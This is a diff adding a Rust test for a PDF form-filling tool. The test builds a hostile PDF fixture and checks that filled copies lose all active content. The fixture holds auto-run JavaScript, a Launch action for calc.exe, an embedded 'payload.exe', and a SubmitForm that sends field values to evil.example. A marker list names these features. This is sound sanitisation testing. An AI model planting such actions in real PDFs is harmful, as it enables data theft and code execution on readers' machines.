@@ -499,3 +499,99 @@ fn a_filled_form_fills_again_with_the_values_replaced() {
     assert_eq!(changed_in_rect(width, height, &blank, &unticked, BENCH_RECTS[5].2), 0);
 }
 
+
+/// A PDF of `objects` (numbered from 1, in order) with a classic cross-reference table.
+fn raw_pdf(objects: &[&str], trailer: &str) -> Vec<u8> {
+    let mut out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n".to_vec();
+    let mut offsets = Vec::new();
+    for (i, body) in objects.iter().enumerate() {
+        offsets.push(out.len());
+        out.extend_from_slice(format!("{} 0 obj\n{body}\nendobj\n", i + 1).as_bytes());
+    }
+    let xref = out.len();
+    out.extend_from_slice(format!("xref\n0 {}\n0000000000 65535 f\r\n", objects.len() + 1).as_bytes());
+    for offset in offsets {
+        out.extend_from_slice(format!("{offset:010} 00000 n\r\n").as_bytes());
+    }
+    out.extend_from_slice(format!("trailer\n{trailer}\nstartxref\n{xref}\n%%EOF\n").as_bytes());
+    out
+}
+
+/// The markers of active content that `issue10_a_filled_copy_keeps_no_active_content` looks
+/// for, as they appear in `pdf`.
+fn active_content(pdf: &[u8]) -> Vec<&'static str> {
+    [
+        "/Launch",
+        "/URI",
+        "/SubmitForm",
+        "/ResetForm",
+        "/JavaScript",
+        "/JS",
+        "/EmbeddedFile",
+        "/FileAttachment",
+        "/OpenAction",
+        "/AA",
+        "calc.exe",
+        "evil.example",
+        "app.alert",
+        "payload",
+    ]
+    .into_iter()
+    .filter(|marker| pdf.windows(marker.len()).any(|w| w == marker.as_bytes()))
+    .collect()
+}
+
+#[tokio::test]
+async fn issue10_a_filled_copy_keeps_no_active_content() {
+    let hostile = raw_pdf(
+        &[
+            // 1: the catalog, with a script run on opening, document scripts and attachments.
+            "<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R/Names<</JavaScript 11 0 R/EmbeddedFiles 12 0 R>>\
+             /AcroForm<</Fields[6 0 R]/DR<</Font<</Helv 5 0 R>>>>/DA(/Helv 0 Tf 0 g)>>>>",
+            "<</Type/Pages/Kids[3 0 R 4 0 R]/Count 2>>",
+            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>/Annots[6 0 R 7 0 R 8 0 R 9 0 R 15 0 R]>>",
+            "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Resources<<>>/AA<</O<</S/ResetForm>>>>>>",
+            "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>",
+            // 6: a text field that submits the form when clicked (and a page that resets it when shown).
+            "<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[72 700 300 720]/P 3 0 R/F 4/DA(/Helv 12 Tf 0 g)\
+             /A<</S/SubmitForm/F<</FS/URL/F(https://evil.example/submit)>>/Flags 4>>>>",
+            // 7: internal navigation, kept.
+            "<</Type/Annot/Subtype/Link/Rect[72 600 200 620]/Border[0 0 0]/A<</S/GoTo/D[4 0 R/Fit]>>>>",
+            "<</Type/Annot/Subtype/Link/Rect[72 560 200 580]/Border[0 0 0]/A<</S/URI/URI(https://evil.example/)>>>>",
+            "<</Type/Annot/Subtype/Link/Rect[72 520 200 540]/Border[0 0 0]/A<</S/Launch/F(calc.exe)>>>>",
+            "<</S/JavaScript/JS(app.alert\\(1\\))>>",
+            "<</Names[(doc) 16 0 R]>>",
+            "<</Names[(payload.exe) 13 0 R]>>",
+            "<</Type/Filespec/F(payload.exe)/UF(payload.exe)/EF<</F 14 0 R>>>>",
+            "<</Type/EmbeddedFile/Length 7>>stream\npayload\nendstream",
+            "<</Type/Annot/Subtype/FileAttachment/Rect[400 700 420 720]/FS 13 0 R/Contents(attached)>>",
+            "<</S/JavaScript/JS(app.alert\\(2\\))>>",
+        ],
+        "<</Size 17/Root 1 0 R>>",
+    );
+    // The fixture carries every marker looked for.
+    assert_eq!(active_content(&hostile).len(), 14, "{:?}", active_content(&hostile));
+
+    // Filled through Hearth, as the tools fill.
+    let t = super::support::open().await;
+    let files = t.hearth.files();
+    let original = files.import("hostile-form", hostile.clone(), "hostile.pdf", "att-hostile").await.unwrap();
+    let copy = files.fill(&original.id, values(&[("name", text("Ada Lovelace"))]), "hostile-form-filled").await.unwrap();
+    let filled = std::fs::read(&copy.path).unwrap();
+    assert_eq!(std::fs::read(&original.path).unwrap(), hostile, "the original is untouched");
+
+    // That was the direct path; PDFium's form filler (the fallback) cleans the same way.
+    let (_, path) = fill_with_report(engine(), &hostile, &values(&[("name", text("Ada Lovelace"))])).unwrap();
+    assert_eq!(path, FillPath::Direct);
+    let by_pdfium = fill_with_pdfium(engine(), &hostile, &values(&[("name", text("Ada Lovelace"))])).unwrap();
+    for copy in [&filled, &by_pdfium] {
+        assert_eq!(active_content(copy), Vec::<&str>::new());
+        assert_eq!(count_scripts(engine(), copy).unwrap(), 0);
+        // The GoTo link stays: one GoTo action, on the first page's link to the second.
+        let gotos = copy.windows(5).filter(|w| w == b"/GoTo").count();
+        assert_eq!(gotos, 1, "{}", String::from_utf8_lossy(copy));
+        let info = inspect(engine(), copy).unwrap();
+        assert_eq!(info.pages, 2);
+        assert_eq!(by_name(&info)["name"].1, Some("Ada Lovelace"));
+    }
+}
